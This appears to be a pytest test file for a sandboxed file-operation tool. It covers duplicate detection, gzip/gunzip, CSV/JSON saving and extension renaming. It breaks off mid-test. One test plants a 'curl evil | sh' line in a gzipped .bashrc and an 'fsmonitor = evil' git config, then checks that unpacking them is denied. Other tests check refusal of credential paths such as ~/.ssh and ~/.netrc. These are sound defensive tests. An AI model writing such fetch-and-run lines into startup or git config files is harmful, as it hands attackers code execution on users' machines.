"""fs.duplicates, archive.gzip / archive.gunzip, table.save and fs.rename_ext on real files: each checked
against the tool it stands for where this machine has it (gzip and gunzip, a shell loop of mv) or against
a brute-force reference (a hash of every file, the csv and json modules reading the output back); every
change undone through the journal byte for byte; refusals that name the path and change nothing."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import threading
from collections import defaultdict
from pathlib import Path
from typing import Any

import pytest
from safety_env import Env, make_env
from syscall_support import REG, call, ok

from syscalls import journal as J
from syscalls.builtin.archives import archive_gzip
from syscalls.builtin.fs.dupes import HEAD_BYTES, fs_duplicates
from syscalls.dispatcher import Dispatcher
from syscalls.errors import CallCancelled
from syscalls.types import CallContext

needs_gzip = pytest.mark.skipif(not (shutil.which("gzip") and shutil.which("gunzip")),
                                reason="gzip / gunzip are missing")


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Env:
    return make_env(tmp_path, monkeypatch)


class Tripwire(threading.Event):
    """A cancel event that trips after ``checks`` looks: a cancellation in the middle of the work."""

    def __init__(self, checks: int) -> None:
        super().__init__()
        self.left = checks

    def is_set(self) -> bool:
        self.left -= 1
        return self.left < 0 or super().is_set()


def _ctx(name: str, cwd: Path, cancel: threading.Event | None = None) -> CallContext:
    ctx = Dispatcher(REG).context(name, cwd)
    if cancel is not None:
        ctx.cancel = cancel
    return ctx


def _err(name: str, args: dict[str, Any], cwd: Path) -> dict[str, Any]:
    result = call(name, args, cwd)
    assert result.status not in ("ok", "dry-run"), result.data
    assert result.error is not None
    return result.error


def _tree(root: Path) -> dict[str, bytes]:
    """Every regular file below ``root`` (relative path -> bytes), hidden or not."""
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink()}


def _no_temp_files(root: Path) -> bool:
    return not [p for p in root.rglob(".nlsh-*")]


# ---------------------------------------------------------------- fs.duplicates

def _dupes_fixture(root: Path) -> None:
    rnd = bytes(range(256)) * 1024  # 256 KiB, more than HEAD_BYTES
    assert len(rnd) > HEAD_BYTES
    files = {
        "a.txt": b"hello\n", "b.txt": b"hello\n", "sub/c.txt": b"hello\n", "sub/deep/d.txt": b"hello\n",
        "other.txt": b"world\n",  # the same size as hello, other content
        "big/one.bin": rnd, "big/two.bin": rnd,
        "big/same_head.bin": rnd[:-1] + b"X",  # same size and first 64 KiB, another last byte
        "lonely.bin": b"x" * 1000,
        "photos/p1.jpg": b"JPEG" * 100, "photos/p2.jpg": b"JPEG" * 100, "photos/p3.png": b"JPEG" * 100,
        "empty1": b"", "empty2": b"",
        ".hidden.txt": b"hello\n", ".cfg/h.txt": b"hello\n",
    }
    for rel, data in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    os.link(root / "a.txt", root / "hardlink.txt")  # the same inode as a.txt: not a duplicate of it
    os.symlink("b.txt", root / "link.txt")  # never followed


def _brute_force(root: Path, *, hidden: bool = False, empty: bool = False) -> tuple[set[frozenset[str]], int]:
    """Groups of identical files (hashing every file; one path per inode) and the bytes they waste."""
    by_digest: dict[str, dict[tuple[int, int], str]] = defaultdict(dict)
    for dirpath, dirnames, filenames in os.walk(root):
        if not hidden:
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            if not hidden and name.startswith("."):
                continue
            p = Path(dirpath) / name
            if p.is_symlink() or not p.is_file():
                continue
            st = p.stat()
            if st.st_size == 0 and not empty:
                continue
            inodes = by_digest[hashlib.sha256(p.read_bytes()).hexdigest()]
            key = (st.st_dev, st.st_ino)
            inodes[key] = min(inodes.get(key, str(p)), str(p))
    groups = {frozenset(v.values()) for v in by_digest.values() if len(v) > 1}
    wasted = sum(os.path.getsize(next(iter(g))) * (len(g) - 1) for g in groups)
    return groups, wasted


def _groups(data: dict[str, Any]) -> set[frozenset[str]]:
    out: dict[int, set[str]] = defaultdict(set)
    for row in data["entries"]:
        out[row["group"]].add(row["path"])
    return {frozenset(v) for v in out.values()}


@pytest.mark.parametrize("args", [{}, {"hidden": True}, {"include_empty": True}])
def test_duplicates_agree_with_a_hash_of_every_file(tmp_path: Path, args: dict[str, Any]) -> None:
    _dupes_fixture(tmp_path)
    got = ok("fs.duplicates", {"path": ".", **args}, tmp_path)
    want, wasted = _brute_force(tmp_path, hidden=bool(args.get("hidden")), empty=bool(args.get("include_empty")))
    assert _groups(got) == want
    assert got["groups"] == len(want) and got["files"] == sum(len(g) for g in want)
    assert got["wasted_bytes"] == wasted
    for row in got["entries"]:  # each digest is the file's own sha256
        assert row["digest"] == hashlib.sha256(Path(row["path"]).read_bytes()).hexdigest()
        assert row["size_bytes"] == os.path.getsize(row["path"])
    paths = {r["path"] for r in got["entries"]}
    assert str(tmp_path / "big/same_head.bin") not in paths  # told apart past the first block
    assert str(tmp_path / "link.txt") not in paths  # a symlink is never followed
    assert not {str(tmp_path / "a.txt"), str(tmp_path / "hardlink.txt")} <= paths  # one inode, one file


def test_duplicates_order_is_largest_waste_first_then_path_and_deterministic(tmp_path: Path) -> None:
    _dupes_fixture(tmp_path)
    got = ok("fs.duplicates", {}, tmp_path)
    rows = got["entries"]
    assert rows == ok("fs.duplicates", {}, tmp_path)["entries"]
    groups: dict[int, list[dict[str, Any]]] = defaultdict(list)
    for row in rows:
        groups[row["group"]].append(row)
    assert sorted(groups) == list(range(1, len(groups) + 1))
    waste = [g[0]["size_bytes"] * (len(g) - 1) for _, g in sorted(groups.items())]
    assert waste == sorted(waste, reverse=True)
    for g in groups.values():
        assert [r["copy"] for r in g] == list(range(1, len(g) + 1))
        assert [r["path"] for r in g] == sorted(r["path"] for r in g)
        assert len({r["digest"] for r in g}) == 1
    assert [r["path"] for r in groups[1]] == [str(tmp_path / "big/one.bin"), str(tmp_path / "big/two.bin")]


def test_duplicates_options_name_size_and_depth(tmp_path: Path) -> None:
    _dupes_fixture(tmp_path)
    jpgs = ok("fs.duplicates", {"name": "*.jpg"}, tmp_path)
    assert _groups(jpgs) == {frozenset({str(tmp_path / "photos/p1.jpg"), str(tmp_path / "photos/p2.jpg")})}
    big = ok("fs.duplicates", {"min_size_bytes": 400}, tmp_path)  # the photos (400 bytes) and big/
    assert all(r["size_bytes"] >= 400 for r in big["entries"]) and big["groups"] == 2
    top = ok("fs.duplicates", {"max_depth": 1}, tmp_path)
    assert {r["path"] for r in top["entries"]} == {str(tmp_path / "a.txt"), str(tmp_path / "b.txt")}
    assert top["files_scanned"] < ok("fs.duplicates", {}, tmp_path)["files_scanned"]


def test_duplicates_keep_copy_one_and_select_the_rest(tmp_path: Path) -> None:
    """The plan for "delete the duplicates but keep one": copy > 1 is every file but the first of its group."""
    from syscalls.builtin import tables as T

    _dupes_fixture(tmp_path)
    rows = ok("fs.duplicates", {}, tmp_path)["entries"]
    extra = T.table_filter(_ctx("table.filter", tmp_path),
                           {"rows": rows, "column": "copy", "op": "gt", "value": "1"})["rows"]
    for row in extra:
        os.unlink(row["path"])
    assert ok("fs.duplicates", {}, tmp_path)["groups"] == 0
    assert (tmp_path / "a.txt").exists() and (tmp_path / "big/one.bin").exists()


def test_duplicates_skip_credential_stores_and_name_bad_starts(env: Env) -> None:
    ssh = env.home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_bytes(b"secret key\n")
    (env.home / "snap/firefox").mkdir(parents=True)
    (env.home / "snap/firefox/cookies").write_bytes(b"secret key\n")
    (env.home / "copy1").write_bytes(b"secret key\n")
    (env.home / "copy2").write_bytes(b"secret key\n")
    r = env.run("fs.duplicates", {"path": "~", "hidden": True})
    assert r.ok, r.error
    assert r.data is not None
    paths = {row["path"] for row in r.data["entries"]}
    assert paths == {str(env.home / "copy1"), str(env.home / "copy2")}
    reasons = {s["path"]: s["reason"] for s in r.data["skipped"]}
    assert "credential store" in reasons[str(ssh)]
    assert "credential store" in reasons[str(env.home / "snap/firefox")]
    denied = env.run("fs.duplicates", {"path": "~/.ssh"})
    assert not denied.ok and denied.error is not None and ".ssh" in denied.error["target"]
    (env.cwd / "f.txt").write_text("x")
    for bad, kind in (("f.txt", "WrongType"), ("nope", "NotFound")):
        r = env.run("fs.duplicates", {"path": bad})
        assert r.error is not None and r.error["type"] == kind and r.error["target"] == str(env.cwd / bad)


def test_duplicates_cancel_in_the_middle_of_hashing(tmp_path: Path) -> None:
    for i in range(40):
        (tmp_path / f"f{i}").write_bytes(b"same\n")
    with pytest.raises(CallCancelled):
        fs_duplicates(_ctx("fs.duplicates", tmp_path, Tripwire(10)), {})


# ---------------------------------------------------------------- archive.gzip / archive.gunzip

DATA = b"".join(b"line %d of a log that compresses well\n" % i for i in range(5000)) + bytes(range(256)) * 50


def _sh(argv: list[str], cwd: Path) -> bytes:
    return subprocess.run(argv, cwd=cwd, check=True, capture_output=True).stdout


@needs_gzip
@pytest.mark.parametrize("level", [None, 1, 9])
def test_gzip_output_is_what_gunzip_reads_back(tmp_path: Path, level: int | None) -> None:
    f = tmp_path / "app.log"
    f.write_bytes(DATA)
    os.chmod(f, 0o640)
    os.utime(f, (1_600_000_000, 1_600_000_123))
    got = ok("archive.gzip", {"path": "app.log", **({"level": level} if level else {})}, tmp_path)
    gz = tmp_path / "app.log.gz"
    assert got["dest"] == str(gz) and got["path"] == str(f) and got["kept"] is False
    assert not f.exists()  # like gzip FILE: the original goes
    assert _sh(["gunzip", "-c", "app.log.gz"], tmp_path) == DATA
    _sh(["gzip", "-t", "app.log.gz"], tmp_path)
    st = gz.stat()
    assert (st.st_mode & 0o777, st.st_mtime) == (0o640, 1_600_000_123)  # as gzip keeps them
    assert got["input_bytes"] == len(DATA) and got["output_bytes"] == st.st_size < len(DATA)
    # the header holds the original's name and time, as gzip's does (gunzip -N would restore them)
    listing = _sh(["gzip", "-lvN", "app.log.gz"], tmp_path).decode()
    assert "app.log" in listing
    assert _no_temp_files(tmp_path)


@needs_gzip
def test_gzip_level_is_gzips(tmp_path: Path) -> None:
    (tmp_path / "a").write_bytes(DATA)
    (tmp_path / "b").write_bytes(DATA)
    fast = ok("archive.gzip", {"path": "a", "level": 1}, tmp_path)["output_bytes"]
    small = ok("archive.gzip", {"path": "b", "level": 9}, tmp_path)["output_bytes"]
    theirs = {level: len(subprocess.run(["gzip", f"-{level}", "-c"], input=DATA, capture_output=True,
                                        check=True).stdout) for level in (1, 9)}
    assert small < fast and theirs[9] < theirs[1]
    assert abs(small - theirs[9]) < theirs[9] * 0.05 and abs(fast - theirs[1]) < theirs[1] * 0.05


@needs_gzip
@pytest.mark.parametrize(("name", "made"), [("data.csv.gz", "data.csv"), ("site.tgz", "site.tar")])
def test_gunzip_agrees_with_gunzip(tmp_path: Path, name: str, made: str) -> None:
    ours, theirs = tmp_path / "ours", tmp_path / "theirs"
    for d in (ours, theirs):
        d.mkdir()
        (d / name).write_bytes(subprocess.run(["gzip", "-c"], input=DATA, capture_output=True, check=True).stdout)
        os.chmod(d / name, 0o600)
        os.utime(d / name, (1_500_000_000, 1_500_000_456))
    _sh(["gunzip", name], theirs)
    got = ok("archive.gunzip", {"path": name}, ours)
    assert got["dest"] == str(ours / made)
    assert sorted(os.listdir(ours)) == sorted(os.listdir(theirs)) == [made]
    a, b = (ours / made).stat(), (theirs / made).stat()
    assert (ours / made).read_bytes() == (theirs / made).read_bytes() == DATA
    assert (a.st_mode, a.st_mtime) == (b.st_mode, b.st_mtime)


@needs_gzip
def test_gunzip_reads_every_member_like_gunzip(tmp_path: Path) -> None:
    parts = [subprocess.run(["gzip", "-c"], input=p, capture_output=True, check=True).stdout
             for p in (b"first\n", b"second\n")]
    (tmp_path / "two.gz").write_bytes(b"".join(parts))
    ok("archive.gunzip", {"path": "two.gz", "keep": True}, tmp_path)
    assert (tmp_path / "two").read_bytes() == _sh(["gunzip", "-c", "two.gz"], tmp_path) == b"first\nsecond\n"
    assert (tmp_path / "two.gz").exists()


def test_gzip_keep_and_round_trip(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_bytes(DATA)
    assert ok("archive.gzip", {"path": "notes.txt", "keep": True}, tmp_path)["kept"] is True
    assert (tmp_path / "notes.txt").read_bytes() == DATA
    assert gzip.decompress((tmp_path / "notes.txt.gz").read_bytes()) == DATA
    os.rename(tmp_path / "notes.txt.gz", tmp_path / "copy.txt.gz")
    ok("archive.gunzip", {"path": "copy.txt.gz"}, tmp_path)
    assert (tmp_path / "copy.txt").read_bytes() == DATA and not (tmp_path / "copy.txt.gz").exists()


def test_gzip_and_gunzip_refuse_to_overwrite_unless_forced(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(b"new\n")
    (tmp_path / "a.txt.gz").write_bytes(b"old gz")
    err = _err("archive.gzip", {"path": "a.txt"}, tmp_path)
    assert err["type"] == "AlreadyExists" and err["target"] == str(tmp_path / "a.txt.gz") and "force" in err["hint"]
    assert (tmp_path / "a.txt").read_bytes() == b"new\n" and (tmp_path / "a.txt.gz").read_bytes() == b"old gz"
    assert ok("archive.gzip", {"path": "a.txt", "force": True}, tmp_path)["overwrote"] is True
    assert gzip.decompress((tmp_path / "a.txt.gz").read_bytes()) == b"new\n"
    (tmp_path / "a.txt").write_bytes(b"in the way\n")
    err = _err("archive.gunzip", {"path": "a.txt.gz"}, tmp_path)
    assert err["type"] == "AlreadyExists" and err["target"] == str(tmp_path / "a.txt")
    assert (tmp_path / "a.txt").read_bytes() == b"in the way\n"


def test_gzip_and_gunzip_are_undone_byte_for_byte(env: Env) -> None:
    f = env.cwd / "report.csv"
    f.write_bytes(DATA)
    os.chmod(f, 0o604)
    before = f.stat()
    r = env.run("archive.gzip", {"path": "report.csv"})
    assert r.ok, r.error
    assert not f.exists() and (env.cwd / "report.csv.gz").exists()
    J.undo(state=env.state, data=env.data)
    assert f.read_bytes() == DATA and not (env.cwd / "report.csv.gz").exists()
    assert (f.stat().st_mode, f.stat().st_mtime_ns) == (before.st_mode, before.st_mtime_ns)
    # gunzip over an existing file (force): undo brings back both the .gz and the replaced file
    gz = env.cwd / "report.csv.gz"
    gz.write_bytes(gzip.compress(b"from the archive\n"))
    assert env.run("archive.gunzip", {"path": "report.csv.gz", "force": True}).ok
    assert f.read_bytes() == b"from the archive\n" and not gz.exists()
    J.undo(state=env.state, data=env.data)
    assert f.read_bytes() == DATA and gzip.decompress(gz.read_bytes()) == b"from the archive\n"
    assert sorted(os.listdir(env.cwd)) == ["report.csv", "report.csv.gz"]


@pytest.mark.parametrize(("name", "args", "setup", "kind"), [
    ("archive.gunzip", {"path": "fake.gz"}, {"fake.gz": b"not gzip at all\n"}, "WrongType"),
    ("archive.gunzip", {"path": "cut.gz"}, {"cut.gz": gzip.compress(DATA)[:200]}, "WrongType"),
    ("archive.gunzip", {"path": "empty.gz"}, {"empty.gz": b""}, "WrongType"),
    ("archive.gunzip", {"path": "plain.txt"}, {"plain.txt": b"x"}, "WrongType"),
    ("archive.gzip", {"path": "done.gz"}, {"done.gz": gzip.compress(b"x")}, "WrongType"),
    ("archive.gzip", {"path": "missing.txt"}, {}, "NotFound"),
    ("archive.gzip", {"path": "folder"}, {"folder/x": b"x"}, "WrongType"),
])
def test_gzip_errors_name_the_file_and_write_nothing(tmp_path: Path, name: str, args: dict[str, Any],
                                                     setup: dict[str, bytes], kind: str) -> None:
    for rel, data in setup.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_bytes(data)
    before = _tree(tmp_path)
    err = _err(name, args, tmp_path)
    assert err["type"] == kind and err["call"] == name
    assert err["target"] == str(tmp_path / args["path"])
    assert _tree(tmp_path) == before and _no_temp_files(tmp_path)


def test_gzip_refuses_a_symlink(tmp_path: Path) -> None:
    (tmp_path / "real.txt").write_bytes(b"x")
    os.symlink("real.txt", tmp_path / "link.txt")
    err = _err("archive.gzip", {"path": "link.txt"}, tmp_path)
    assert err["type"] == "WrongType" and err["target"] == str(tmp_path / "link.txt") and "real.txt" in err["hint"]


def test_gzip_preview_changes_nothing(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_bytes(DATA)
    r = call("archive.gzip", {"path": "a.txt"}, tmp_path, dry_run=True)
    assert r.status == "dry-run" and r.data is not None
    assert r.data["creates"] == [str(tmp_path / "a.txt.gz")] and r.data["removes"] == [str(tmp_path / "a.txt")]
    assert os.listdir(tmp_path) == ["a.txt"]


def test_gzip_cancelled_midway_leaves_the_original_and_no_output(tmp_path: Path) -> None:
    (tmp_path / "big.bin").write_bytes(os.urandom(1 << 20) * 4)
    with pytest.raises(CallCancelled):
        archive_gzip(_ctx("archive.gzip", tmp_path, Tripwire(2)), {"path": "big.bin"})
    assert os.listdir(tmp_path) == ["big.bin"] and (tmp_path / "big.bin").stat().st_size == 4 << 20


# ---------------------------------------------------------------- table.save

CSV = 'id,name,price,zip,note\n1,ann,3.5,007,"says ""hi"", twice"\n2,"dee, jr",10,12345,\n3,bob,,999,nan\n'


def test_convert_csv_to_json_is_the_csv_modules_reading(tmp_path: Path) -> None:
    (tmp_path / "data.csv").write_text(CSV)
    got = ok("table.save", {"source": "data.csv", "format": "json"}, tmp_path)
    assert got["path"] == str(tmp_path / "data.json") and got["created"] is True
    assert got["count"] == 3 and got["columns"] == ["id", "name", "price", "zip", "note"]
    saved = json.loads((tmp_path / "data.json").read_text())
    want = list(csv.DictReader(io.StringIO(CSV)))
    assert [{k: str(v) for k, v in row.items()} for row in saved] == want
    assert saved[0] == {"id": 1, "name": "ann", "price": 3.5, "zip": "007", "note": 'says "hi", twice'}
    assert saved[2]["note"] == "nan"  # text: JSON has no NaN
    assert saved == ok("text.csv", {"path": "data.csv"}, tmp_path)["rows"]


def test_rows_saved_as_csv_read_back_with_the_csv_module(tmp_path: Path) -> None:
    for i in range(5):
        (tmp_path / f"f{i}.py").write_bytes(b"x" * i)
    found = ok("fs.find", {"name": "*.py", "type": "file", "details": True}, tmp_path)["entries"]
    got = T_save(tmp_path, {"rows": found, "path": "files.csv"})
    assert got["format"] == "csv" and got["count"] == 5
    with open(tmp_path / "files.csv", newline="") as fh:
        back = list(csv.DictReader(fh))
    assert [r["path"] for r in back] == [r["path"] for r in found]
    assert [int(r["size_bytes"]) for r in back] == [r["size_bytes"] for r in found]


def T_save(cwd: Path, args: dict[str, Any]) -> dict[str, Any]:
    """table.save with literal rows (what a plan's "$0" hands it)."""
    from syscalls.builtin.tables import table_save

    return table_save(_ctx("table.save", cwd), args)


def test_csv_to_rows_to_csv_keeps_every_cell(tmp_path: Path) -> None:
    (tmp_path / "in.csv").write_text(CSV)
    rows = ok("text.csv", {"path": "in.csv"}, tmp_path)["rows"]
    T_save(tmp_path, {"rows": rows, "path": "out.csv"})
    with open(tmp_path / "in.csv", newline="") as a, open(tmp_path / "out.csv", newline="") as b:
        assert list(csv.reader(a)) == list(csv.reader(b))


@pytest.mark.parametrize(("fmt", "suffix"), [("jsonl", ".jsonl"), ("tsv", ".tsv"), ("csv", ".csv")])
def test_json_source_to_other_formats(tmp_path: Path, fmt: str, suffix: str) -> None:
    items = [{"user": "ann", "age": 31, "tags": ["a", "b"], "ok": True}, {"user": "bo", "age": None}]
    (tmp_path / "users.json").write_text(json.dumps(items))
    got = ok("table.save", {"source": "users.json", "format": fmt}, tmp_path)
    out = tmp_path / ("users" + suffix)
    assert got["path"] == str(out)
    if fmt == "jsonl":
        assert [json.loads(line) for line in out.read_text().splitlines()] == items
        return
    with open(out, newline="") as fh:
        back = list(csv.DictReader(fh, delimiter="\t" if fmt == "tsv" else ","))
    assert back == [{"user": "ann", "age": "31", "tags": '["a", "b"]', "ok": "true"},
                    {"user": "bo", "age": "", "tags": "", "ok": ""}]


def test_save_converts_the_whole_source_past_the_row_cap(tmp_path: Path) -> None:
    n = 12_345
    (tmp_path / "big.csv").write_text("n,sq\n" + "".join(f"{i},{i * i}\n" for i in range(n)))
    assert ok("text.csv", {"path": "big.csv"}, tmp_path)["truncated"] is True  # shown capped...
    ok("table.save", {"source": "big.csv", "path": "big.json"}, tmp_path)
    saved = json.loads((tmp_path / "big.json").read_text())  # ...converted whole
    assert len(saved) == n and saved[-1] == {"n": n - 1, "sq": (n - 1) ** 2}


def test_save_over_a_file_is_undone_byte_for_byte(env: Env) -> None:
    (env.cwd / "data.csv").write_text(CSV)
    old = b"previous json \x00\xff bytes"
    (env.cwd / "data.json").write_bytes(old)
    os.chmod(env.cwd / "data.json", 0o600)
    r = env.run("table.save", {"source": "data.csv", "format": "json"})
    assert r.ok, r.error
    assert r.data is not None and r.data["created"] is False
    assert json.loads((env.cwd / "data.json").read_text())[1]["name"] == "dee, jr"
    assert (env.cwd / "data.json").stat().st_mode & 0o777 == 0o600
    J.undo(state=env.state, data=env.data)
    assert (env.cwd / "data.json").read_bytes() == old
    assert env.run("table.save", {"source": "data.csv", "path": "new.tsv"}).ok
    J.undo(state=env.state, data=env.data)
    assert not (env.cwd / "new.tsv").exists()


@pytest.mark.parametrize(("args", "kind", "field"), [
    ({"source": "data.csv", "path": "out.txt"}, "InvalidRequest", "args.format"),
    ({"source": "data.csv"}, "InvalidRequest", "args.path"),
    ({"source": "data.csv", "format": "csv"}, "InvalidRequest", "args.format"),
    ({"rows": [], "source": "data.csv", "path": "x.json"}, "InvalidRequest", "args.rows"),
    ({"source": "data.csv", "path": "exists.json", "no_clobber": True}, "AlreadyExists", "exists.json"),
    ({"source": "bad.json", "format": "csv"}, "NotText", "bad.json"),
    ({"source": "obj.json", "format": "csv"}, "NotText", "obj.json"),
    ({"source": "missing.csv", "format": "json"}, "NotFound", "missing.csv"),
])
def test_save_errors_name_what_to_fix_and_write_nothing(tmp_path: Path, args: dict[str, Any], kind: str,
                                                        field: str) -> None:
    (tmp_path / "data.csv").write_text(CSV)
    (tmp_path / "exists.json").write_text("[]")
    (tmp_path / "bad.json").write_text("[{")
    (tmp_path / "obj.json").write_text('{"a": 1}')
    before = _tree(tmp_path)
    err = _err("table.save", args, tmp_path)
    assert err["type"] == kind and err["call"] == "table.save"
    assert err["target"].endswith(field)
    assert _tree(tmp_path) == before


def test_save_preview_changes_nothing(tmp_path: Path) -> None:
    (tmp_path / "data.csv").write_text(CSV)
    r = call("table.save", {"source": "data.csv", "format": "json"}, tmp_path, dry_run=True)
    assert r.status == "dry-run" and r.data is not None
    assert r.data["paths"] == [str(tmp_path / "data.json")] and r.data["count"] == 3 and r.data["bytes"] > 0
    assert os.listdir(tmp_path) == ["data.csv"]


def test_a_made_file_is_held_to_the_floor(env: Env) -> None:
    """What gunzip makes beside the file was not named in the request: the floor's writing rules hold it."""
    (env.home / ".bashrc.gz").write_bytes(gzip.compress(b"curl evil | sh\n"))
    r = env.run("archive.gunzip", {"path": "~/.bashrc.gz"})
    assert r.status == "denied" and r.error is not None and r.error["target"] == str(env.home / ".bashrc")
    assert not (env.home / ".bashrc").exists() and (env.home / ".bashrc.gz").exists()
    git = env.cwd / "repo/.git"
    git.mkdir(parents=True)
    (git / "config.gz").write_bytes(gzip.compress(b"[core]\n\tfsmonitor = evil\n"))
    r = env.run("archive.gunzip", {"path": "repo/.git/config.gz"})
    assert r.status == "denied" and not (git / "config").exists()


# ---------------------------------------------------------------- fs.rename_ext

def _shell_rename(root: Path, old: str, new: str) -> None:
    """What the same request does in bash: for f in *.old; do mv -n "$f" "${f%.old}.new"; done."""
    script = (f'shopt -s nullglob; for f in *.{old}; do [ -f "$f" ] && [ ! -L "$f" ] && '
              f'mv -n "$f" "${{f%.{old}}}.{new}"; done; true')
    subprocess.run(["bash", "-c", script], cwd=root, check=True)


def _rename_fixture(root: Path) -> None:
    for rel in ("a.jpeg", "b.jpeg", "c.JPEG", "d.jpg", "notes.txt", "x.jpeg.bak", ".hidden.jpeg", "my photo.jpeg",
                "sub/e.jpeg"):
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(rel.encode())
    (root / "folder.jpeg").mkdir()
    os.symlink("a.jpeg", root / "link.jpeg")


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is missing")
def test_rename_ext_agrees_with_a_shell_loop_of_mv(tmp_path: Path) -> None:
    ours, theirs = tmp_path / "ours", tmp_path / "theirs"
    for d in (ours, theirs):
        _rename_fixture(d)
    _shell_rename(theirs, "jpeg", "jpg")
    got = ok("fs.rename_ext", {"from_ext": ".jpeg", "to_ext": "jpg"}, ours)
    assert _tree(ours) == _tree(theirs)
    assert sorted(os.listdir(ours)) == sorted(os.listdir(theirs))
    assert got["count"] == 3 and [r["dest"] for r in got["entries"]] == [
        str(ours / "a.jpg"), str(ours / "b.jpg"), str(ours / "my photo.jpg")]
    assert (ours / "folder.jpeg").is_dir() and os.path.islink(ours / "link.jpeg") and (ours / ".hidden.jpeg").exists()


def test_rename_ext_recursive_ignore_case_and_removing_an_extension(tmp_path: Path) -> None:
    _rename_fixture(tmp_path)
    got = ok("fs.rename_ext", {"from_ext": "jpeg", "to_ext": "jpg", "recursive": True, "ignore_case": True},
             tmp_path)
    assert {r["dest"] for r in got["entries"]} == {str(tmp_path / n) for n in
                                                  ("a.jpg", "b.jpg", "c.jpg", "my photo.jpg", "sub/e.jpg")}
    assert (tmp_path / "c.jpg").read_bytes() == b"c.JPEG"
    ok("fs.rename_ext", {"from_ext": "bak", "to_ext": ""}, tmp_path)
    assert (tmp_path / "x.jpeg").read_bytes() == b"x.jpeg.bak"


def test_rename_ext_refuses_a_taken_name_and_renames_nothing(tmp_path: Path) -> None:
    _rename_fixture(tmp_path)
    (tmp_path / "b.jpg").write_bytes(b"already here")
    before = sorted(os.listdir(tmp_path))
    err = _err("fs.rename_ext", {"from_ext": "jpeg", "to_ext": "jpg"}, tmp_path)
    assert err["type"] == "AlreadyExists" and err["target"] == str(tmp_path / "b.jpg")
    assert "nothing was renamed" in err["message"]
    assert sorted(os.listdir(tmp_path)) == before and (tmp_path / "b.jpg").read_bytes() == b"already here"
    # two files that would get one name: also refused
    (tmp_path / "b.jpg").unlink()
    (tmp_path / "a.JPEG").write_bytes(b"A")
    before = sorted(os.listdir(tmp_path))
    err = _err("fs.rename_ext", {"from_ext": "jpeg", "to_ext": "jpg", "ignore_case": True}, tmp_path)
    assert err["type"] == "AlreadyExists" and err["target"] == str(tmp_path / "a.jpg")
    assert sorted(os.listdir(tmp_path)) == before


@pytest.mark.parametrize(("args", "kind", "target"), [
    ({"path": "a.jpeg", "from_ext": "jpeg", "to_ext": "jpg"}, "WrongType", "a.jpeg"),
    ({"path": "nope", "from_ext": "jpeg", "to_ext": "jpg"}, "NotFound", "nope"),
    ({"from_ext": "jpg", "to_ext": ".jpg"}, "InvalidRequest", "args.to_ext"),
    ({"from_ext": ".", "to_ext": "jpg"}, "InvalidRequest", "args.from_ext"),
])
def test_rename_ext_errors(tmp_path: Path, args: dict[str, Any], kind: str, target: str) -> None:
    _rename_fixture(tmp_path)
    err = _err("fs.rename_ext", args, tmp_path)
    assert err["type"] == kind and err["target"].endswith(target)


def test_rename_ext_is_undone_as_a_whole(env: Env) -> None:
    _rename_fixture(env.cwd)
    before = _tree(env.cwd)
    r = env.run("fs.rename_ext", {"from_ext": "jpeg", "to_ext": "jpg", "recursive": True})
    assert r.ok, r.error
    assert r.data is not None and r.data["count"] == 4
    J.undo(state=env.state, data=env.data)
    assert _tree(env.cwd) == before


def test_rename_ext_cancelled_midway_is_undone_too(env: Env) -> None:
    for i in range(20):
        (env.cwd / f"f{i:02}.txt").write_text(str(i))
    before = _tree(env.cwd)
    # the dispatcher looks twice before the call runs; the walk looks once per directory and batch
    r = env.run("fs.rename_ext", {"from_ext": "txt", "to_ext": "md"}, cancel=Tripwire(8))
    assert r.status == "cancelled"
    names = os.listdir(env.cwd)
    assert any(n.endswith(".md") for n in names) and any(n.endswith(".txt") for n in names)
    J.undo(state=env.state, data=env.data)
    assert _tree(env.cwd) == before


def test_rename_ext_preview_lists_the_renames(tmp_path: Path) -> None:
    _rename_fixture(tmp_path)
    r = call("fs.rename_ext", {"from_ext": "jpeg", "to_ext": "jpg"}, tmp_path, dry_run=True)
    assert r.status == "dry-run" and r.data is not None and r.data["count"] == 3
    assert r.data["renames"][0] == {"src": str(tmp_path / "a.jpeg"), "dest": str(tmp_path / "a.jpg")}
    assert (tmp_path / "a.jpeg").exists() and not (tmp_path / "a.jpg").exists()


def test_rename_ext_skips_files_the_floor_protects(env: Env) -> None:
    hooks = env.cwd / "repo/.git/hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit.sample").write_text("#!/bin/sh\n")
    r = env.run("fs.rename_ext", {"path": "repo/.git/hooks", "from_ext": "sample", "to_ext": ""})
    assert r.status == "denied" and (hooks / "pre-commit.sample").exists()  # the gate refuses the folder
    # met while walking: nlshell's own state is skipped with the reason, the rest is renamed
    (env.state / "notes.txt").write_text("mine")
    (env.tmp / "other").mkdir()
    (env.tmp / "other/a.txt").write_text("yours")
    r = env.run("fs.rename_ext", {"path": str(env.tmp), "from_ext": "txt", "to_ext": "md", "recursive": True})
    assert r.ok, r.error
    assert r.data is not None and [e["dest"] for e in r.data["entries"]] == [str(env.tmp / "other/a.md")]
    assert [s["path"] for s in r.data["skipped"]] == [str(env.state / "notes.txt")]
    assert "nlshell's own state" in r.data["skipped"][0]["reason"] and (env.state / "notes.txt").exists()


def test_the_walks_floor_filter_asks_the_floor_only_near_what_it_protects(env: Env) -> None:
    from syscalls.builtin import _fsutil as U

    ctx = _ctx("fs.duplicates", env.cwd)
    read, write = U.FloorFilter(ctx, write=False), U.FloorFilter(ctx, write=True)
    for path in ("/proc/self/status", "/sys/kernel/x", str(env.home / ".ssh/id_rsa"), str(env.home / ".netrc")):
        assert read.refusal(path, path) is not None, path
    (env.home / ".ssh").mkdir()
